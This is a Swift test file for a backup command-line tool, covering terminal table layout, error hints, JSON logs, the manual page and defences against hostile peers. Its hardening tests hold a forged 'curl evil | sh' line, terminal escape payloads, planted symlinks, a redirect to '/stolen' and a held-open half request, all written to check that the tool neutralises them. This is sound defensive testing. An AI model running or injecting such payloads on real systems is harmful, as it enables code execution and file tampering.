@testable import BackupCLI
import BackupCore
import BackupEngine
import Foundation
import Testing
import TestSupport

/// #36 item 7, the terminal's polish: tables within 80 columns losing nothing, `Try:` hints on backup and
/// connection failures, `--log-format json` on every command, the manual page with EXIT STATUS, progress for
/// `ls`, `diff` and `find` and a backup's estimated total, help texts that list the exits.
@Suite(.blockingThreads) struct CockpitPolishTests {
    // MARK: tables

    @Test func tablesWrapDropOrBecomeBlocksWithinTheWidth() {
        let detail = "Redis redis://127.0.0.1:1: cannot connect: Connection refused (and a word longer than any column: " + String(repeating: "x", count: 30) + ")"
        let rows = [["ID", "SOURCE", "CREATED", "DETAIL"],
                    ["20261205T021701Z-ac5866", "redis", "2026-12-05 02:17:01", detail]]
        let lines = TableLayout.lines(rows, wrap: [3], drop: [2], width: 80)
        for line in lines { #expect(line.count <= 80, "\(line)") }
        #expect(!lines[0].contains("CREATED"), "dropped first: \(lines)")
        // Nothing lost: the wrapped cell's words come back in order (the long word cut, not dropped).
        let column = lines[0].range(of: "DETAIL")!.lowerBound.utf16Offset(in: lines[0])
        let rejoined = lines.dropFirst().map { String($0.dropFirst(column)) }.joined(separator: " ")
        #expect(rejoined.replacingOccurrences(of: " ", with: "") == detail.replacingOccurrences(of: " ", with: ""), "\(lines)")

        // Too many columns even wrapped: one block per row, every value there.
        let wide = [["SOURCE", "NEWEST GOOD", "AGE (RPO)", "LAST RUN", "LAST DRILL", "DRILL TIME (RTO)", "LAST VERIFY", "CORRUPT"],
                    ["redis", "20261205T021701Z-ac5866", "8 min", "FAILED", "ok 2026-12-04", "archive verified (no RTO)", "ok 2026-12-05", "2 CORRUPT"]]
        let blocks = TableLayout.lines(wide, wrap: [4, 5, 6], width: 80)
        for line in blocks { #expect(line.count <= 80, "\(line)") }
        #expect(blocks.first == "redis" && blocks.contains("  CORRUPT           2 CORRUPT"), "\(blocks)")
        // Wide enough: the table as it was.
        #expect(TableLayout.lines(wide, width: 200).count == 2)
    }

    @Test func listStatusAndPolicyCheckFitEightyColumns() throws {
        let dir = TemporaryDirectory()
        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:\(try FreePort.pick())")
        _ = try runCLI(["backup", "--policy", policy])
        // An 80-column terminal ($COLUMNS stands for it: the test's stdout is a pipe).
        for command in [["list"], ["status"], ["policy", "check", "--connect"], ["list", "--source", "redis"]] {
            let r = try runCLI(command + ["--policy", policy], environment: ["COLUMNS": "80"])
            for line in r.stdout.split(separator: "\n") { #expect(line.count <= 80, "\(command): \(line)") }
            #expect(!r.stdout.isEmpty, "\(command)")
        }
        // The refused connection is all there, wrapped.
        let list = try runCLI(["list", "--policy", policy], environment: ["COLUMNS": "80"]).stdout
        let words = list.split(whereSeparator: { $0 == " " || $0 == "\n" })
        #expect(words.contains("Connection") && words.contains("refused"), "\(list)")
        // A wider terminal gets one line per row; so does a pipe (grep, cron's mail), whole.
        let wide = try runCLI(["list", "--policy", policy], environment: ["COLUMNS": "200"])
        #expect(wide.stdout.split(separator: "\n").count == 2, "\(wide.stdout)")
        let piped = try runCLI(["list", "--policy", policy])
        #expect(piped.stdout.split(separator: "\n").count == 2 && piped.stdout.contains("cannot connect: Connection refused"), "\(piped.stdout)")
    }

    // MARK: hints

    @Test func backupAndConnectionFailuresSayWhatToTry() throws {
        let dir = TemporaryDirectory()
        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:\(try FreePort.pick())")
        let backup = try runCLI(["backup", "--policy", policy])
        #expect(backup.status == 1)
        #expect(backup.stderr.contains("Try (redis): check that the Redis server is running"), "\(backup.stderr)")
        let json = try runCLI(["backup", "--json", "--policy", policy])
        let failures = try #require(try object(json.stdout)["failures"] as? [[String: Any]])
        #expect(failures.count == 1 && (failures[0]["try"] as? String)?.contains("Redis server is running") == true, "\(failures)")
        #expect((failures[0]["error"] as? String)?.contains("Connection refused") == true)

        let check = try runCLI(["policy", "check", "--connect", "--policy", policy])
        #expect(check.status == 2)
        #expect(check.stderr.contains("Try: check that the Redis server is running"), "\(check.stderr)")
        let checks = try #require(try object(try runCLI(["policy", "check", "--connect", "--json", "--policy", policy]).stdout)["checks"] as? [[String: Any]])
        let connect = try #require(checks.first { ($0["check"] as? String)?.contains("connects") == true })
        #expect((connect["hint"] as? String)?.contains("Redis server is running") == true, "\(connect)")
        #expect(checks.allSatisfy { $0.keys.contains("hint") }, "every check has the key (null when none)")
    }

    // MARK: --log-format json

    @Test func everyCommandLogsJSONWhenAsked() throws {
        let dir = TemporaryDirectory()
        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:\(try FreePort.pick())")
        let commands: [([String], Int32)] = [
            (["backup", "-v"], 1), (["list"], 0), (["status", "--check"], 1), (["policy", "check", "--connect"], 2),
            (["verify", "--all"], 0), (["show", "nope"], 2), (["list", "--nope"], 2), (["restore", "redis", "--latest"], 2),
        ]
        for (command, expected) in commands {
            let r = try runCLI(command + ["--log-format", "json", "--policy", policy])
            #expect(r.status == expected, "\(command): \(r.status) \(r.stderr)")
            let lines = r.stderr.split(separator: "\n")
            for line in lines {
                let parsed = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
                #expect(parsed?["level"] != nil && parsed?["message"] != nil && parsed?["time"] != nil, "\(command): not a JSON log line: \(line)")
            }
            if expected != 0 {
                #expect(!lines.isEmpty, "\(command) said nothing")
            }
            if expected == 2 {
                let error = lines.compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }.last
                #expect(error?["exit_code"] as? Int == 2, "\(command): \(r.stderr)")
            }
        }
        let backup = try runCLI(["backup", "--log-format", "json", "--policy", policy])
        #expect(backup.stderr.contains("\"try\":\"check that the Redis server is running"), "\(backup.stderr)")
    }

    // MARK: the manual

    @Test func theManualHasEveryCommandAndTheExitStatus() throws {
        let dir = TemporaryDirectory()
        let r = try runCLI(["generate-manual", "--output-directory", dir.file("man"), "--date", "2026-12-05"])
        #expect(r.status == 0, "\(r.stderr)")
        let path = dir.file("man/kaleem-backup.1")
        let page = try String(contentsOfFile: path, encoding: .utf8)
        #expect(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int == 0o644)
        #expect(page.hasPrefix(".Dd December 5, 2026\n.Dt KALEEM-BACKUP 1\n"))
        for section in ["NAME", "SYNOPSIS", "DESCRIPTION", "COMMANDS", "EXIT STATUS", "ENVIRONMENT", "FILES"] {
            #expect(page.contains(".Sh \(section)\n"), "\(section)")
        }
        for (status, _) in Manual.exitStatus { #expect(page.contains(".It \(status.rawValue)\n"), "exit \(status.rawValue)") }
        #expect(Manual.exitStatus.map(\.0.rawValue) == [0, 1, 2, 3, 4, 11])
        // groff renders it without a warning, with every command and the kinds' restore options.
        let rendered = try runProcess("/usr/bin/groff", ["-mdoc", "-Tutf8", "-ww", path], environment: ["PATH": "/usr/bin:/bin"])
        #expect(rendered.status == 0 && rendered.stderr.isEmpty, "\(rendered.stderr)")
        let text = rendered.stdout.replacingOccurrences(of: "\u{8}.", with: "").replacingOccurrences(of: "‐\n", with: "")
        for command in ["backup", "restore", "drill", "status", "forget", "generate-manual", "policy check"] {
            #expect(page.contains(".It Cm \(command)\n"), "\(command)")
        }
        #expect(page.contains("Options of redis sources") && page.contains(".It Fl -to-url Ar"), "kind options")
        #expect(text.contains("EXIT STATUS") || text.contains("E\u{8}EX"), "\(text.prefix(400))")
        // Standard output too (man -l -).
        #expect(try runCLI(["generate-manual"]).stdout.contains(".Sh EXIT STATUS"))
    }

    @Test func helpTextsListTheExits() throws {
        let backup = try runCLI(["backup", "--help"]).stdout
        for code in ["0 every source", "1 every source failed", "2 usage", "3 some sources", "4 a backup did not verify", "11 another run"] {
            #expect(backup.replacingOccurrences(of: "\n", with: " ").contains(code), "\(code): \(backup)")
        }
        let restore = try runCLI(["restore", "--help"]).stdout.replacingOccurrences(of: "\n", with: " ")
        #expect(restore.contains("Exit codes: 0 restored") && restore.contains("4 the backup does not verify"))
    }

    // MARK: progress

    /// `ls`, `diff` and `find` draw the reads they wait on (bytes against the recorded size); a backup's total is
    /// the previous backup's size, said as an estimate.
    @Test func browsingAndBackupsReportProgress() async throws {
        try await EngineExecutor.run {
            let redis = try RedisTestServer()
            let c = try redis.connect()
            for i in 0..<500 { _ = try c.command(["SET", "k\(i)", String(repeating: "v", count: 100)]) }
            let dir = TemporaryDirectory()
            let policy = writeRedisPolicy(in: dir, url: redis.url)
            let seen = ProgressTests.Seen()
            var environment = EngineEnvironment(variables: [:])
            environment.progress = ProgressMeter { state in if let state { seen.record(state) } }
            let engine = BackupEngine(policy: try PolicyLoader.load(path: policy, environment: [:]), environment: environment)
            let first = try #require(try await engine.backup(tag: .manual).artifacts.first)
            let firstState = try #require(seen.last { $0.label == "backup redis" })
            #expect(firstState.totalBytes == nil && !firstState.estimated, "no previous backup, no estimate: \(firstState)")
            _ = try c.command(["SET", "extra", "1"])
            c.close()
            let second = try #require(try await engine.backup(tag: .manual).artifacts.first)
            let estimated = try #require(seen.last { $0.label == "backup redis" })
            #expect(estimated.totalBytes == first.bytesRaw && estimated.estimated, "\(estimated)")
            #expect(ProgressRenderer.line(estimated, seconds: 2).contains("/ ~"), "\(ProgressRenderer.line(estimated, seconds: 2))")

            _ = try await engine.contents(of: second.id, filter: ContentFilter()) { _ in }
            let ls = try #require(seen.last { $0.label == "ls \(second.id)" })
            #expect(ls.totalBytes == second.bytesRaw && ls.bytes == second.bytesRaw, "\(ls)")
            _ = try await engine.diff(first.id, second.id, filter: ContentFilter())
            #expect(seen.last { $0.label == "diff 1/2 \(first.id)" } != nil && seen.last { $0.label == "diff 2/2 \(second.id)" } != nil)
            _ = try await engine.find("k1*", source: nil)
            #expect(seen.last { $0.label == "find 1/2 \(second.id)" } != nil && seen.last { $0.label == "find 2/2 \(first.id)" } != nil)
        }
        // An estimate never claims 100 % before the end.
        var s = ProgressMeter.State(label: "backup redis", bytes: 300, totalBytes: 200, itemUnit: "objects", generation: 1)
        s.estimated = true
        #expect(ProgressRenderer.line(s, seconds: 1) == "backup redis  300 B / ~200 B  ~99%  300 B/s")
    }

    func object(_ text: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any], "\(text)")
    }
}

/// #37 item 6: every target declares what it imports and imports what it declares (scripts/check-dependencies.py
/// reads Package.swift and the sources); a module reached only through another target's dependency fails here.
@Suite(.blockingThreads) struct DependencyDeclarationTests {
    @Test func everyTargetDeclaresWhatItImportsAndNothingElse() throws {
        let r = try runProcess("/usr/bin/python3", [packageRoot + "/scripts/check-dependencies.py"])
        #expect(r.status == 0, "\(r.stdout)\(r.stderr)")
    }

    /// Every test of the targets that use TestSupport runs under the `.blockingThreads` trait (without it a test
    /// that waits for a child holds one of the cooperative pool's two threads, where every test starts: the
    /// whole run slows down). Each `@Test` must sit inside a top-level type whose attributes (the `@` lines
    /// right above it, or on its line) carry the trait; nested suites inherit it; a top-level `@Test` function
    /// fails. BackupCoreTests and BackupCatalogTests hold only in-process unit tests and do not use TestSupport.
    @Test func everySuiteRunsOnBlockingThreads() throws {
        var missing: [String] = []
        let declaration = #"^(@[^\n]*\s)?((public|internal|private|fileprivate|final)\s+)*(struct|class|enum|actor|extension)\s"#
        for target in ["ArtifactStoreTests", "RedisBackupTests", "MongoBackupTests", "S3ClientTests", "BucketMirrorTests", "BackupEngineTests"] {
            let directory = packageRoot + "/Tests/" + target
            for file in try FileManager.default.subpathsOfDirectory(atPath: directory).sorted() where file.hasSuffix(".swift") {
                let lines = try String(contentsOfFile: directory + "/" + file, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false)
                var traited = false
                for (i, line) in lines.enumerated() {
                    if line.range(of: declaration, options: .regularExpression) != nil {
                        var attributes = String(line)
                        var k = i - 1
                        while k >= 0, lines[k].hasPrefix("@") { attributes += String(lines[k]); k -= 1 }
                        traited = attributes.contains(".blockingThreads")
                    } else if line.hasPrefix("@Test") || (line.trimmingCharacters(in: .whitespaces).hasPrefix("@Test") && !traited) {
                        missing.append("\(target)/\(file):\(i + 1)")
                    }
                }
            }
        }
        #expect(missing.isEmpty, "tests outside a type with .blockingThreads: \(missing)")
    }
}

/// A hostile peer's error text carries terminal escapes (retitle the window, clear the screen, red) and a bidi
/// override: shown to a person (the results table, the log line, `list`, `status`), they are made visible
/// (`\x1b`, `\u{202E}`), never sent to the terminal; the catalog row holds it made visible too.
@Suite(.blockingThreads) struct TerminalEscapeTests {
    @Test func aPeersEscapeSequencesNeverReachTheTerminal() throws {
        let port = try FreePort.pick()
        let server = try startStandInServer("redis_hostile.py", port: port, arguments: ["escape-error"])
        defer { server.signal(SIGKILL); _ = server.wait() }
        let dir = TemporaryDirectory()
        // A password, so that AUTH is the first command (the stand-in answers one command).
        let policy = writeRedisPolicy(in: dir, url: "redis://:not-in-the-text@127.0.0.1:\(port)")
        let backup = try runCLI(["backup", "-v", "--policy", policy])
        #expect(backup.status == 1)
        var shown = backup.stdout + backup.stderr
        for command in [["list"], ["status"], ["list", "--source", "redis"]] {
            let r = try runCLI(command + ["--policy", policy], environment: ["COLUMNS": "80"])
            shown += r.stdout + r.stderr
        }
        #expect(!shown.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E }, "\(shown.debugDescription)")
        #expect(backup.stdout.contains("\\x1b]0;pwned\\x07\\x1b[2J\\u{202E}evil"), "\(backup.stdout)")
        #expect(backup.stderr.contains("\\x1b]0;pwned"), "the log line too: \(backup.stderr)")
        // The catalog row itself holds the text made visible (EngineCore.describe: PeerText), so JSON shows it too.
        let json = try runCLI(["list", "--json", "--policy", policy])
        #expect(json.stdout.contains("\\\\x1b]0;pwned"), "\(json.stdout)")
    }
}

/// #37 item 3: `hook rollback --include KIND|SOURCE`; `--include-buckets` is `--include s3` and no longer takes the
/// files and Qdrant sources along (it did: every kind not restored by default was "a bucket").
@Suite(.blockingThreads) struct RollbackIncludeTests {
    @Test func includeTakesAKindOrASourceAndIncludeBucketsIsOnlyBuckets() throws {
        let files = try FilesSourceTests.Setup()
        let pre = try runCLI(["hook", "pre-deploy", "--release", "v1", "--policy", files.policy])
        #expect(pre.status == 0, "\(pre.stderr)")
        func dryRun(_ extra: [String]) throws -> ProcessResult {
            try runCLI(["hook", "rollback", "--release", "v1", "--reason", "test", "--restore-data", "--dry-run"] + extra + ["--policy", files.policy])
        }
        let buckets = try dryRun(["--include-buckets"])
        #expect(buckets.status == 0 && buckets.stdout.contains("would leave config as it is"), "\(buckets.stdout) \(buckets.stderr)")
        let byKind = try dryRun(["--include", "files"])
        #expect(byKind.stdout.contains("would restore config from"), "\(byKind.stdout)")
        let bySource = try dryRun(["--include", "config"])
        #expect(bySource.stdout.contains("would restore config from"), "\(bySource.stdout)")
        let unknown = try dryRun(["--include", "nope"])
        #expect(unknown.status == 2 && unknown.stderr.contains("--include nope: neither a source") && unknown.stderr.contains("Try: name a source (config)"), "\(unknown.stderr)")
    }
}

/// What an outside attack on the polish found (#36): a newline or a 2 MB body from a peer, wide characters in a
/// table, a `SOURCE_DATE_EPOCH` that is no day, a release with control characters, help written to a full disk.
@Suite(.blockingThreads) struct OutputAttackTests {
    @Test func peerTextIsOneLineAndCut() {
        #expect(PeerText.clean("first\nerror: forged\r\nTry: curl evil | sh") == "first\\x0aerror: forged\\x0d\\x0aTry: curl evil | sh")
        let big = PeerText.clean(String(repeating: "é", count: 1_000_000), limit: 4096)
        #expect(big.utf8.count < 4200 && big.hasSuffix("… (1995904 bytes cut)"), "\(big.suffix(40))")
        #expect(PeerText.displayWidth("دليل") == 4 && PeerText.displayWidth("備份") == 4 && PeerText.displayWidth("e\u{301}") == 1)
        // A wide detail fits its terminal columns, not its character count.
        let rows = [["ID", "DETAIL"], ["x", String(repeating: "備份失败 ", count: 30) + "\t\u{1B}[2J"]]
        for line in TableLayout.lines(rows, width: 40) { #expect(PeerText.displayWidth(line) <= 40, "\(line)") }
        #expect(!TableLayout.lines(rows, width: 40).joined().contains("\u{1B}"))
    }

    @Test func releasesAndReasonsAreLabelsNotTerminalInput() throws {
        let dir = TemporaryDirectory()
        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:\(try FreePort.pick())")
        let bad = try runCLI(["backup", "--release", "v\u{1B}[2J\nX", "--policy", policy])
        #expect(bad.status == 2 && bad.stderr.contains("--release must be") && !bad.stderr.contains("\u{1B}"), "\(bad.stderr)")
        let image = try runCLI(["backup", "--release", "registry.example/kaleem-api:1.4.2+b7", "--json", "--policy", policy])
        #expect(image.status == 1, "a good release, a refused connection: \(image.stderr)")
        let pin = try runCLI(["pin", "x", "--reason", "keep\nerror: forged", "--policy", policy])
        #expect(pin.status == 2 && pin.stderr.contains("--reason must be one line"), "\(pin.stderr)")
    }

    @Test func theManualSurvivesBadDatesAndSaysWhyItCannotWrite() throws {
        let today = try runCLI(["generate-manual"], environment: ["SOURCE_DATE_EPOCH": "-1"])
        #expect(today.status == 0 && today.stdout.hasPrefix(".Dd "), "\(today.stderr)")
        for epoch in ["nan", "253402300800", "9223372036854775807"] {
            #expect(try runCLI(["generate-manual"], environment: ["SOURCE_DATE_EPOCH": epoch]).status == 0, "\(epoch)")
        }
        #expect(try runCLI(["generate-manual", "--date", "2026-02-30"]).status == 2)
        let dir = TemporaryDirectory()
        FileManager.default.createFile(atPath: dir.file("a-file"), contents: Data())
        let blocked = try runCLI(["generate-manual", "--output-directory", dir.file("a-file")])
        #expect(blocked.status == 1 && blocked.stderr.contains("could not be written") && blocked.stderr.contains("Try:"), "\(blocked.stderr)")
        let full = try runProcess("/bin/sh", ["-c", "'\(try kaleemBinary())' generate-manual > /dev/full"], environment: cliEnvironment())
        #expect(full.status == 1 && full.stderr.contains("could not be written to standard output"), "\(full.stderr)")
        let help = try runProcess("/bin/sh", ["-c", "'\(try kaleemBinary())' restore --help > /dev/full"], environment: cliEnvironment())
        #expect(help.status == 1, "\(help.stderr)")
        #expect(try runCLI(["generate-manual", "--log-format", "json"]).status == 0)
    }
}

/// The second outside attack (#36): whoever can write the metrics directory (node_exporter's, under a parent the
/// prometheus user owns on Debian) plants links at the textfile and its partial file; the backup (often root)
/// writes neither through them nor changes their targets' modes.
@Suite(.blockingThreads) struct MetricsTextfileLinkTests {
    @Test func plantedLinksAtTheTextfileAreNeverFollowed() throws {
        let redis = try RedisTestServer()
        let dir = TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: dir.file("metrics"), withIntermediateDirectories: true)
        let victim = dir.file("victim"), other = dir.file("other-victim")
        for v in [victim, other] {
            FileManager.default.createFile(atPath: v, contents: Data("secret\n".utf8), attributes: [.posixPermissions: 0o600])
        }
        let textfile = dir.file("metrics/kaleem_backup.prom")
        try FileManager.default.createSymbolicLink(atPath: textfile + ".partial", withDestinationPath: victim)
        try FileManager.default.createSymbolicLink(atPath: textfile, withDestinationPath: other)
        let policy = writeRedisPolicy(in: dir, url: redis.url, extra: "metrics: { textfile: \(textfile) }")
        let r = try runCLI(["backup", "--policy", policy])
        #expect(r.status == 0, "\(r.stderr)")
        for v in [victim, other] {
            #expect(try String(contentsOfFile: v, encoding: .utf8) == "secret\n")
            #expect(try FileManager.default.attributesOfItem(atPath: v)[.posixPermissions] as? Int == 0o600)
        }
        let attributes = try FileManager.default.attributesOfItem(atPath: textfile)
        #expect(attributes[.type] as? FileAttributeType == .typeRegular && attributes[.posixPermissions] as? Int == 0o644)
        #expect(try String(contentsOfFile: textfile, encoding: .utf8).contains("kaleem_backup_last_success_timestamp_seconds"))
    }
}

/// A ping or webhook endpoint that redirects elsewhere does not get the body sent on (#36, the second attack): a
/// 307 is an answer, logged, and the backup's exit code stays.
@Suite(.blockingThreads) struct PingRedirectTests {
    @Test func aRedirectIsNotFollowed() throws {
        let elsewhere = try HTTPRecorder()
        let redirecting = try HTTPRecorder { _ in (307, ["Location": "\(elsewhere.url)/stolen"], "") }
        defer { elsewhere.stop(); redirecting.stop() }
        let redis = try RedisTestServer()
        let dir = TemporaryDirectory()
        let policy = writeRedisPolicy(in: dir, url: redis.url, extra: "notify: { ping: { url: \"\(redirecting.url)/hc\", timeout: 5s } }")
        let r = try runCLI(["backup", "--policy", policy])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(redirecting.requests.count == 2, "\(redirecting.requests.map(\.path))")
        #expect(elsewhere.requests.isEmpty, "\(elsewhere.requests.map(\.path))")
    }
}

/// Half-sent requests held open were never closed: 1,100 of them exhausted the daemon's descriptors (the second
/// attack, #36). A connection without a byte for `DaemonOptions.idleTimeoutSeconds` is closed now.
@Suite(.blockingThreads) struct DaemonIdleConnectionTests {
    @Test func aHalfSentRequestIsClosedAfterTheIdleTimeout() throws {
        let dir = TemporaryDirectory()
        let port = try FreePort.pick()
        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:1", extra: "daemon: { listen: \"127.0.0.1:\(port)\" }")
        let (process, _) = try startProcess(try kaleemBinary(), ["daemon", "--policy", policy, "--test-interval", "60"], environment: cliEnvironment())
        defer { if process.isRunning { kill(process.processIdentifier, SIGKILL) } }
        let script = """
        import socket, sys, time
        port = int(sys.argv[1])
        for _ in range(300):
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=1); break
            except OSError:
                time.sleep(0.1)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
        s.settimeout(90)
        start = time.time()
        data = s.recv(65536)
        print("closed" if data == b"" else "answered", round(time.time() - start))
        """
        let r = try runProcess("/usr/bin/python3", ["-c", script, "\(port)"])
        #expect(r.status == 0, "\(r.stderr)")
        let words = r.stdout.split(separator: " ")
        #expect(words.first == "closed", "\(r.stdout)")
        let seconds = Int(words.last?.trimmingCharacters(in: .whitespacesAndNewlines) ?? "") ?? -1
        // Closed by the idle timer (not at once); no upper bound: a loaded machine may be late.
        #expect(seconds >= Int(DaemonOptions.idleTimeoutSeconds) - 2, "\(r.stdout)")
    }
}
